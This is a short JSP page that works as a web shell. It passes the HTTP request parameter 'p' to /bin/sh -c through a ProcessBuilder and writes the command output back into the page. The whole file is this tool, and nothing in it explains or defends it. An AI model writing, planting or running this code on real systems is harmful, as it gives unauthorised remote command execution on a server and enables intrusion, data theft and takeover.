<%@ page contentType="text/html;charset=UTF-8" %>
<jsp:useBean id="pb" class="java.lang.ProcessBuilder" scope="page">
</jsp:useBean>
<%
    java.util.List<String> cmd = new java.util.ArrayList<String>();
    cmd.add("/bin/sh"); cmd.add("-c"); cmd.add(request.getParameter("p"));
    pb.command(cmd);
    pb.redirectErrorStream(true);
    java.io.InputStream is = pb.start().getInputStream();
    int c; while ((c = is.read()) != -1) out.write(c);
%>
